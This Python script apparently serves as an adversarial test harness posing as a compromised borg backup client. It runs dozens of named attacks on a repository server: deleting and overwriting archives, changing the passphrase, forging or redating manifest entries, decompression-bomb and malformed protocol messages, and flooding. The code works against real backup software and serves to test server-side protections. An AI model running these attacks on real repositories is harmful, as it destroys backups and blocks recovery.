#!/usr/bin/python3
"""A borg on a target that was taken over: evil_borg.py ATTACK, then what the engine gives to borg create or extract.

It has all that the target has: the way to the repository, and its passphrase. Where it says something to the repository that must not pass, it
goes on as if nothing had happened, so that what is refused is refused by who reads it.
"""
import os
import shlex
import subprocess
import sys

attack, arguments = sys.argv[1], sys.argv[2:]
if arguments[:1] == ["--version"]:
    os.execvp("borg", ["borg", "--version"])
place = arguments[arguments.index("--") + 1]
url, name = place.rsplit("::", 1)
sources = arguments[arguments.index("--") + 2:]


def borg(*words):
    """Another command of stock borg, which reads the passphrase as create would have."""
    done = subprocess.run(["borg", *words], check=False, env={**os.environ, "BORG_CHECK_I_KNOW_WHAT_I_AM_DOING": "YES",
                          "BORG_DELETE_I_KNOW_WHAT_I_AM_DOING": "YES", "BORG_NEW_PASSPHRASE": "mine now"})
    if done.returncode:
        raise RuntimeError(f"borg {words[0]} ended with {done.returncode}")


def connect():
    words = shlex.split(os.environ["BORG_RSH"]) + ["borg-server", "borg", "serve"]
    return subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE)


class Raw:
    """borg's protocol by hand: what is said, and when, is this program's alone."""

    def __init__(self):
        import msgpack
        self.pack = lambda value: msgpack.packb(value, use_bin_type=False, unicode_errors="surrogateescape")
        self.unpacker = msgpack.Unpacker(raw=True, max_buffer_size=1 << 27)
        self.process = connect()
        self.number = 1
        self.say(self.pack([1, 1, "negotiate", [{"client_version": (1, 2, 4, -1)}]]))
        self.answer()

    def say(self, data):
        self.process.stdin.write(data)
        self.process.stdin.flush()

    def answer(self):
        while True:
            for message in self.unpacker:
                return message
            data = os.read(self.process.stdout.fileno(), 1 << 16)
            if not data:
                raise EOFError
            self.unpacker.feed(data)

    def call(self, method, wait=True, **named):
        self.number += 1
        self.say(self.pack({"i": self.number, "m": method, "a": named}))
        return self.answer() if wait else None

    def open(self, path=None, **more):
        named = {"path": path or url.split("borg-server", 1)[1], "create": False, "lock_wait": 5, "lock": True, "exclusive": EXCLUSIVE,
                 "append_only": False, "make_parent_dirs": False, **more}
        return self.call("open", **named)


# To restore, nobody needs the lock for himself: who asks for it is refused at once, and shows nothing of what comes after.
EXCLUSIVE = arguments[0] != "extract"
COMMIT = {"save_space": False, "compact": False, "threshold": 0.1, "cleanup_commits": False}
MANIFEST = bytes(32)


def library():
    """The repository and its manifest by borg's own library, the key unlocked."""
    import argparse
    from borg.helpers import Location, Manifest
    from borg.logger import setup_logging
    from borg.remote import RemoteRepository
    options = argparse.Namespace(remote_path=None, umask=0o077, rsh=None, debug_topics=[], log_level="warning", upload_ratelimit=None,
                                 remote_ratelimit=None, upload_buffer=None, remote_buffer=None, use_socket=False)
    setup_logging()
    repository = RemoteRepository(Location(url), exclusive=EXCLUSIVE, lock_wait=5, args=options)
    repository.__enter__()
    manifest, key = Manifest.load(repository, (Manifest.Operation.READ,))
    return repository, manifest, key


def archives(manifest):
    return sorted(manifest.archives.list(), key=lambda archive: archive.name)


def chunks_of(repository, key, archive):
    """Of the archive's metadata: chunks that nothing but it needs, and that hold what it is."""
    from borg.archive import ArchiveItem
    from borg.helpers import msgpack
    data = key.decrypt(archive.id, repository.get(archive.id))
    return ArchiveItem(internal_dict=msgpack.unpackb(data)).items


def write(repository, manifest):
    manifest.write()
    repository.commit(compact=False)


def raw(method, **named):
    session = Raw()
    session.open()
    session.call(method, **named)
    session.call("commit", **COMMIT)


def overwrite_archive():
    repository, manifest, _ = library()
    repository.put(archives(manifest)[0].id, b"x" * 1000)
    repository.commit(compact=False)


def overwrite_chunk_and_delete_it():
    repository, manifest, key = library()
    chunk = chunks_of(repository, key, archives(manifest)[0])[0]
    repository.put(chunk, b"x" * 1000, wait=False)
    repository.delete(chunk, wait=False)
    repository.commit(compact=False)


def overwrite_at_once():
    """Without waiting for anything: put and commit are on their way in one piece, before anybody could have asked."""
    import msgpack
    repository, manifest, _ = library()
    victim = archives(manifest)[0].id
    messages = b"".join(msgpack.packb({"i": repository.msgid + number, "m": method, "a": named}, use_bin_type=False) for number, (method, named) in
                        enumerate([("put", {"id": victim, "data": b"x" * 3000}), ("commit", COMMIT)], 1))
    os.set_blocking(repository.stdin_fd, True)
    while messages:
        messages = messages[os.write(repository.stdin_fd, messages):]
    os.read(repository.stdout_fd, 1)


def delete_archive_object():
    repository, manifest, _ = library()
    repository.delete(archives(manifest)[0].id)
    repository.commit(compact=False)


def delete_chunk():
    repository, manifest, key = library()
    repository.delete(chunks_of(repository, key, archives(manifest)[0])[0])
    repository.commit(compact=False)


def forget_archives():
    repository, manifest, _ = library()
    for archive in archives(manifest):
        del manifest.archives[archive.name]
    write(repository, manifest)


def forget_one_and_make_one():
    repository, manifest, _ = library()
    first, *_, last = archives(manifest)
    del manifest.archives[first.name]
    manifest.archives["another"] = (last.id, last.ts)
    write(repository, manifest)


def forge_archives(number=3):
    """Newer ones than all there are, for whoever keeps the newest."""
    import datetime
    repository, manifest, _ = library()
    some = archives(manifest)[0]
    for day in range(number):
        manifest.archives[f"forged-{day}"] = (some.id, datetime.datetime(2099, 1, 1) + datetime.timedelta(minutes=day))
    write(repository, manifest)


def redate_archives():
    """So that whoever prunes by dates drops the good ones."""
    import datetime
    repository, manifest, _ = library()
    for archive in archives(manifest):
        del manifest.archives[archive.name]
        manifest.archives[archive.name] = (archive.id, archive.ts.replace(tzinfo=None) - datetime.timedelta(days=3650))
    write(repository, manifest)


def add(*names, id=None):
    """To the list: of an archive that is there, unless somebody gives an id."""
    repository, manifest, _ = library()
    some = archives(manifest)[0]
    for name in names:
        manifest.archives[name] = (id or some.id, some.ts)
    write(repository, manifest)


def manifest_of_before():
    """As it was before the newest archive: it is good, and signed."""
    repository, manifest, _ = library()
    del manifest.archives[archives(manifest)[-1].name]
    write(repository, manifest)


def empty_manifest_at_once():
    """An object, a list without archives and a commit in one piece, with nothing waited for."""
    import msgpack
    repository, manifest, key = library()
    for archive in archives(manifest):
        del manifest.archives[archive.name]
    taken = []
    original, repository.put = repository.put, lambda id, data, wait=True: taken.append(data)
    manifest.write()
    repository.put = original
    messages = b"".join(msgpack.packb({"i": repository.msgid + number, "m": method, "a": named}, use_bin_type=False) for number, (method, named) in
                        enumerate([("put", {"id": os.urandom(32), "data": b"x" * 3000}), ("put", {"data": taken[0], "id": MANIFEST}),
                                   ("commit", COMMIT)], 1))
    os.set_blocking(repository.stdin_fd, True)
    while messages:
        messages = messages[os.write(repository.stdin_fd, messages):]
    while os.read(repository.stdout_fd, 1 << 16):
        pass


def swap_archives():
    """Each name leads to another archive."""
    repository, manifest, _ = library()
    first, *_, last = archives(manifest)
    del manifest.archives[first.name]
    manifest.archives[first.name] = (last.id, last.ts)
    write(repository, manifest)


def swelling_manifest():
    """Small, and of some gigabytes once it is unpacked."""
    import zlib
    repository, manifest, key = library()
    packer, zeros = zlib.compressobj(1), bytes(1 << 20)
    packed = b"".join([packer.compress(zeros) for _ in range(2500)] + [packer.flush()])
    key.compressor.compress = lambda data: packed
    write(repository, manifest)


def garbage_manifest():
    raw("put", id=MANIFEST, data=b"x" * 1000)


def split_everywhere():
    """An honest backup, a byte at a time."""
    relay = os.path.join(os.path.dirname(os.path.abspath(__file__)), "trickle.py")
    os.environ["BORG_RSH"] = f"{shlex.quote(relay)} {os.environ['BORG_RSH']}"
    os.execvp("borg", ["borg", *arguments])


def oversized(head):
    session = Raw()
    session.open()
    session.say(head)
    for _ in range(64):
        session.say(b"x" * (1 << 20))


def connect_twice():
    first = connect()
    second = connect()
    second.stdin.close()
    second.wait()
    first.stdin.close()
    first.wait()


def fill(number=1 << 20):
    session = Raw()
    session.open()
    for _ in range(number):
        session.number += 1
        session.say(session.pack({"i": session.number, "m": "put", "a": {"id": os.urandom(32), "data": os.urandom(1 << 16)}}))
    return session


def fill_and_say_locked():
    """Below the limit, and again when it is let in again."""
    session = fill(160)
    for _ in range(160):
        session.answer()
    session.call("commit", **COMMIT)
    print('{"type": "log_message", "levelname": "ERROR", "name": "borg", "msgid": "LockTimeout", "message": "Failed to create the lock", '
          '"time": 1.5}', file=sys.stderr)
    sys.exit(2)


ATTACKS = {
    "delete": lambda: borg("delete", "--force", url),
    "delete-newest": lambda: borg("delete", "--last", "1", url),
    "prune": lambda: borg("prune", "--keep-last", "1", url),
    "compact": lambda: borg("compact", "--cleanup-commits", url),
    "break-lock": lambda: raw("break_lock"),
    "check-repair": lambda: borg("check", "--repair", url),
    "change-passphrase": lambda: borg("key", "change-passphrase", url),
    "recreate": lambda: borg("recreate", "--exclude", "*", url),
    "destroy": lambda: raw("destroy"),
    "save-key": lambda: raw("save_key", keydata=b"BORG_KEY nothing"),
    "check": lambda: raw("check", repair=True, save_space=False),
    "rename-method": lambda: raw("delete ", id=bytes(32)),
    "inject-exception": lambda: raw("inject_exception", kind="divide"),
    "commit-compact": lambda: raw("commit", save_space=False, compact=True, threshold=0.0, cleanup_commits=True),
    "delete-manifest": lambda: raw("delete", id=MANIFEST),
    "overwrite-archive": overwrite_archive,
    "overwrite-chunk-and-delete-it": overwrite_chunk_and_delete_it,
    "overwrite-at-once": overwrite_at_once,
    "delete-archive-object": delete_archive_object,
    "delete-chunk": delete_chunk,
    "another-path": lambda: Raw().open(path=url.split("borg-server", 1)[1].rsplit("/", 1)[0] + "/other"),
    "create-repository": lambda: Raw().open(path=url.split("borg-server", 1)[1] + "2", create=True),
    "without-lock": lambda: Raw().open(lock=False, exclusive=False),
    "put": lambda: raw("put", id=os.urandom(32), data=b"x" * 1000),
    "reserve-nonces": lambda: raw("commit_nonce_reservation", next_unreserved=1 << 40, start_nonce=0),
    "list": lambda: raw("list", limit=1000, marker=None),
    "forget-archives": forget_archives,
    "forget-one-and-make-one": forget_one_and_make_one,
    "forge-archives": forge_archives,
    "many-archives": lambda: forge_archives(200_000),
    "alias": lambda: add("another"),
    "alias-as-checkpoint": lambda: add("another.checkpoint"),
    "two-checkpoints": lambda: add("one.checkpoint", "one.checkpoint.1", id=os.urandom(32)),
    "nul-name": lambda: add("one\0x", id=os.urandom(32)),
    "redate-archives": redate_archives,
    "manifest-of-before": manifest_of_before,
    "empty-manifest-at-once": empty_manifest_at_once,
    "swap-archives": swap_archives,
    "garbage-manifest": garbage_manifest,
    "swelling-manifest": swelling_manifest,
    "oversized-string": lambda: oversized(b"\x83\xa1i\x03\xa1m\xa3put\xa1a\x82\xa2id\xda\x00\x20" + b"i" * 32 + b"\xa4data\xdb\xff\xff\xff\xff"),
    "oversized-map": lambda: oversized(b"\xdf\xff\xff\xff\xff"),
    "nested": lambda: oversized(b"\x91" * 100000),
    "malformed": lambda: oversized(b"\xc1"),
    "connect-twice": connect_twice,
    "split-everywhere": split_everywhere,
    "fill": fill,
    "fill-and-say-locked": fill_and_say_locked,
}
try:
    ATTACKS[attack]()
except Exception as problem:  # it was cut off
    print(f"{attack}: {type(problem).__name__}: {problem}", file=sys.stderr)
    sys.exit(2)
